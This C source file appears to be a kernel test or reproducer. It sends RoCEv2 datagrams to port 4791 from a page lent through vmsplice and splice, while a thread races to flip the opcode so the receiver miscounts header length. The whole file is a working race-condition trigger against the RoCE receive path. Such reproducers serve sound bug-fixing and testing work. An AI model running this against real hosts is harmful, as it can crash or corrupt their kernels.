// SPDX-License-Identifier: GPL-2.0
/*
 * Datagrams to a RoCE port of this host whose headers a process can still
 * change: it lends its page to the socket and goes on writing to it. lent.sh
 * builds and runs it:
 *
 *	lent ADDRESS COUNT
 */
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "../lib/number.h"

/*
 * As long as the headers of an atomic would like to have it and fail, while
 * those of a datagram leave room: whoever takes the length of the one and the
 * meaning of the other miscounts.
 */
#define LEN		28
#define COMPARE_SWAP	0x13
#define UD_SEND_ONLY	0x64

static volatile unsigned char *page;
static volatile bool stopped;

static void *change_opcode(void *unused)
{
	while (!stopped)
		*page ^= COMPARE_SWAP ^ UD_SEND_ONLY;
	return unused;
}

int main(int argc, char **argv)
{
	/* P_Key of all, queue pair 1. */
	static const unsigned char bth[12] = {
		UD_SEND_ONLY, 0, 0xff, 0xff, [7] = 1,
	};
	struct sockaddr_in to = {
		.sin_family = AF_INET,
		.sin_port = htons(4791),
	};
	struct iovec iov = { .iov_len = LEN };
	pthread_t changer;
	int fd, ends[2];
	long i, n;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		errx(1, "usage: lent ADDRESS COUNT");
	n = arg_number(argv[2]);

	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		err(1, "mmap");
	memcpy((void *)page, bth, sizeof(bth));
	iov.iov_base = (void *)page;

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)))
		err(1, "socket");
	if (pipe(ends))
		err(1, "pipe");
	if (pthread_create(&changer, NULL, change_opcode, NULL))
		errx(1, "pthread_create");

	for (i = 0; i < n; i++) {
		if (vmsplice(ends[1], &iov, 1, 0) != LEN)
			err(1, "vmsplice");
		if (splice(ends[0], NULL, fd, NULL, LEN, 0) != LEN)
			err(1, "splice");
	}

	stopped = true;
	pthread_join(changer, NULL);
	return 0;
}
